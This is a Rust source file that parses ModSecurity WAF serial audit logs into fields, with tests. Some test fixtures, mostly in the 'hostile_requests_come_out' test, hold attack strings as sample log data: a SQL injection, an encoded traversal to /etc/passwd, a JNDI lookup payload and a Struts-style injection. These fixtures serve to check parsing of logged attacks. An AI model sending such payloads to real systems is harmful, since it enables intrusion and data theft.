//! `ModSecurity`'s serial audit log in its native form: one entry a transaction, in parts between
//! boundaries (`--c9436741-A--`): the one common log with request headers and bodies.

use std::sync::Arc;

use memchr::{memchr, memmem};

use super::stamp::Stamps;
use super::{
    Event, Field, Format, Guess, Head, Kind, Options, Parsed, Parser, modsecurity, request,
};
use crate::line::Framing;

/// More headers than this are not told apart.
const HEADER_CAP: usize = 200;

const FIELDS: [Field; 20] = [
    Field::Client,
    Field::Method,
    Field::Target,
    Field::Stem,
    Field::Query,
    Field::Version,
    Field::Status,
    Field::BytesOut,
    Field::Referer,
    Field::UserAgent,
    Field::Host,
    Field::ContentType,
    Field::Cookie,
    Field::ForwardedFor,
    Field::ServerIp,
    Field::ServerPort,
    Field::Body,
    Field::ResponseBody,
    Field::Action,
    Field::RequestId,
];

#[derive(Debug)]
struct Audit(Stamps, Vec<Field>);

/// The guess of this family.
pub(super) fn guess(head: &Head<'_>, options: &Options) -> Option<Guess> {
    let first = head.lines.iter().position(|line| starts(line))?;
    let score = (head.lines.len() - first) as f64 / head.lines.len() as f64;
    let fields = FIELDS.into_iter().chain([Field::Message]).collect();
    Some(Guess { format: Arc::new(Audit(Stamps::new(options), fields)), score })
}

impl Format for Audit {
    fn name(&self) -> &'static str {
        "modsecurity-audit"
    }

    fn kind(&self) -> Kind {
        Kind { category: "webserver", service: "modsecurity", log: "waf", messages: true }
    }

    fn framing(&self) -> Framing {
        Framing::Starts(starts)
    }

    fn fields(&self) -> &[Field] {
        &self.1
    }

    fn has_named(&self) -> bool {
        true
    }

    fn parser(&self) -> Box<dyn Parser + '_> {
        Box::new(AuditParser(&self.0))
    }
}

/// Whether a line opens a transaction: `--c9436741-A--`.
fn starts(line: &[u8]) -> bool {
    boundary(line).is_some_and(|(_, part)| part == b'A')
}

/// The transaction and the part that a boundary names.
fn boundary(line: &[u8]) -> Option<(&[u8], u8)> {
    let line = line.strip_suffix(b"\r").unwrap_or(line);
    let (id, part) = match line.strip_prefix(b"--")?.strip_suffix(b"--")? {
        [id @ .., b'-', part @ b'A'..=b'Z'] => (id, *part),
        _ => return None,
    };
    let known = |b: &u8| b.is_ascii_alphanumeric();
    (!id.is_empty() && id.len() <= 32 && id.iter().all(known)).then_some((id, part))
}

struct AuditParser<'f>(&'f Stamps);

impl Parser for AuditParser<'_> {
    fn parse<'a>(&mut self, entry: &'a [u8], event: &mut Event<'a>) -> Parsed {
        if entry.trim_ascii().is_empty() {
            return Parsed::Skip;
        }
        let Some((id, _)) = boundary(line_of(entry)).filter(|(_, part)| *part == b'A') else {
            return Parsed::Unparsed;
        };
        let mut rest = entry;
        while let Some((part, content, after)) = next_part(rest, id) {
            self.part(part, content, event);
            rest = after;
        }
        Parsed::Event
    }
}

/// The first line of a text.
fn line_of(text: &[u8]) -> &[u8] {
    &text[..memchr(b'\n', text).unwrap_or(text.len())]
}

/// The part at the start of a text: its letter, its content and the text behind it. A part ends
/// only at a boundary of the same transaction, so that a body cannot end it.
fn next_part<'a>(text: &'a [u8], id: &[u8]) -> Option<(u8, &'a [u8], &'a [u8])> {
    let head = line_of(text);
    let (_, part) = boundary(head)?;
    let from = (head.len() + 1).min(text.len());
    let mark = [b"\n--", id, b"-"].concat();
    let mut at = head.len();
    let end = loop {
        let Some(found) = memmem::find(&text[at.min(text.len())..], &mark) else {
            break text.len();
        };
        at += found;
        if boundary(line_of(&text[at + 1..])).is_some() {
            break at;
        }
        at += 1;
    };
    Some((part, &text[from.min(end)..end], &text[(end + 1).min(text.len())..]))
}

impl AuditParser<'_> {
    fn part<'a>(&self, part: u8, content: &'a [u8], event: &mut Event<'a>) {
        match part {
            b'A' => drop(self.transaction(content, event)),
            b'B' => request_part(content, event),
            b'C' => event.set(Field::Body, content),
            b'E' => event.set(Field::ResponseBody, content),
            b'F' => response_part(content, event),
            b'H' => trailer(content, event),
            b'Z' => {}
            _ if content.trim_ascii().is_empty() => {}
            _ => event.push(vec![b'p', b'a', b'r', b't', b'.', part], content),
        }
    }

    /// `[23/Nov/2026:08:46:37.168338 +0000] ID 127.0.0.1 50628 127.0.0.1 18081`.
    fn transaction<'a>(&self, content: &'a [u8], event: &mut Event<'a>) -> Option<()> {
        let inner = content.strip_prefix(b"[")?;
        let close = memchr(b']', inner)?;
        event.time = self.0.any(&inner[..close]);
        let mut words =
            line_of(&inner[close + 1..]).split(|b| *b == b' ').filter(|w| !w.is_empty());
        event.set(Field::RequestId, words.next()?);
        event.set(Field::Client, words.next()?);
        let _client_port = words.next()?;
        event.set(Field::ServerIp, words.next()?);
        event.set(Field::ServerPort, words.next()?.trim_ascii_end());
        Some(())
    }
}

fn request_part<'a>(content: &'a [u8], event: &mut Event<'a>) {
    let line = line_of(content);
    let headers = &content[(line.len() + 1).min(content.len())..];
    for (name, value) in self::headers(headers) {
        let field = match name.to_ascii_lowercase().as_slice() {
            b"host" => Some(Field::Host),
            b"user-agent" => Some(Field::UserAgent),
            b"referer" => Some(Field::Referer),
            b"cookie" => Some(Field::Cookie),
            b"content-type" => Some(Field::ContentType),
            b"x-forwarded-for" => Some(Field::ForwardedFor),
            _ => None,
        };
        match field.filter(|field| event.get(*field).is_none()) {
            Some(field) => event.set(field, value),
            None => event.push([b"request.headers.", name].concat(), value),
        }
    }
    request::set_line_with(event, line.strip_suffix(b"\r").unwrap_or(line), Into::into);
}

fn response_part<'a>(content: &'a [u8], event: &mut Event<'a>) {
    let line = line_of(content);
    let status = line.split(|b| *b == b' ').nth(1).and_then(|status| status.get(..3));
    if let Some(status) = status.filter(|status| status.iter().all(u8::is_ascii_digit)) {
        event.set(Field::Status, status);
    }
    for (name, value) in headers(&content[(line.len() + 1).min(content.len())..]) {
        if name.eq_ignore_ascii_case(b"content-length") {
            event.set(Field::BytesOut, value);
        } else {
            event.push([b"response.headers.", name].concat(), value);
        }
    }
}

/// `Message:` and `Action:` lines; of several messages, the first is the event's.
fn trailer<'a>(content: &'a [u8], event: &mut Event<'a>) {
    let mut blocked = false;
    for (name, value) in headers(content) {
        match name {
            b"Message" => {
                modsecurity::told(value, event);
                blocked |= event.get(Field::Action) == Some(b"blocked");
                if event.get(Field::Message).is_none() {
                    event.set(Field::Message, value);
                }
            }
            b"Action" => blocked |= value.starts_with(b"Intercepted"),
            _ => event.push(name, value),
        }
    }
    if blocked {
        event.set(Field::Action, &b"blocked"[..]);
    }
}

/// The `Name: value` lines of a text.
fn headers(text: &[u8]) -> impl Iterator<Item = (&[u8], &[u8])> {
    let lines = text.split(|b| *b == b'\n').take(HEADER_CAP);
    lines.filter_map(|line| {
        let line = line.strip_suffix(b"\r").unwrap_or(line);
        let colon = memchr(b':', line)?;
        Some((&line[..colon], line[colon + 1..].trim_ascii_start()))
    })
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::super::proof::{hostile, prove, tell};

    const AUDIT: &str = "--c9436741-A--\n[08/Mar/2017:05:12:07.168338 +0900] ID1 203.0.113.66 50628 192.0.2.1 443\n--c9436741-B--\nPOST /tax/index.action HTTP/1.1\nHost: zei.example.jp\nContent-Type: %{(#nike='multipart/form-data')}\nX-Odd: 1\n\n--c9436741-C--\na=1\n--00000000-Z--\nb=2\n--c9436741-E--\ntomcat\n--c9436741-F--\nHTTP/1.1 403 Forbidden\nContent-Length: 7\n\n--c9436741-H--\nMessage: Access denied with code 403 (phase 2). [id \"944100\"] [msg \"Java\"]\nAction: Intercepted (phase 2)\nStopwatch: 1 2\n\n--c9436741-Z--\n\n";

    #[test]
    fn audit_log() {
        prove(&[(
            AUDIT,
            "modsecurity-audit",
            "waf",
            &[&[
                "2017-03-08T05:12:07.168338+09:00",
                "‹c-ip=203.0.113.66›",
                "‹request-id=ID1›",
                "‹s-ip=192.0.2.1›",
                "‹s-port=443›",
                "‹cs-uri=/tax/index.action›",
                "‹cs-host=zei.example.jp›",
                "‹cs-content-type=%{(#nike=\\'multipart/form-data\\')}›",
                "‹cs-body=a=1\\n--00000000-Z--\\nb=2›",
                "‹sc-body=tomcat›",
                "‹sc-status=403›",
                "‹sc-bytes=7›",
                "‹action=blocked›",
                "‹id=944100›",
                "‹request.headers.X-Odd=1›",
            ]],
        )]);
    }

    #[test]
    fn hostile_requests_come_out() {
        hostile(
            "modsec_audit_serial_native",
            &[
                "‹cs-uri-query=q=%27%20UNION%20SELECT%20card_no--›",
                "‹action=detected›",
                "‹cs-uri-query=x=\\\"quoted\\\"&y=a\\\\b›",
                "‹cs-uri-stem=/café›",
                "‹cs-body=cc=5555",
                "‹cs-uri=/%2e%2e%2f%252e%252e%252fetc/passwd›",
                "‹cs-uri-query=x=${jndi:ldap://10.0.0.1/a}›",
                "‹cs-method=PROPFIND›",
                "‹cs-cookie=PHPSESSID=abc; cc=4111111111111111›",
            ],
        );
    }

    proptest! {
        #[test]
        fn mutated_audits_never_panic(at in 0usize..700, byte: u8, cut in 0usize..700) {
            let mut log = AUDIT.as_bytes().to_vec();
            if let Some(place) = log.get_mut(at) {
                *place = byte;
            }
            log.truncate(cut);
            tell(&log);
        }
    }
}
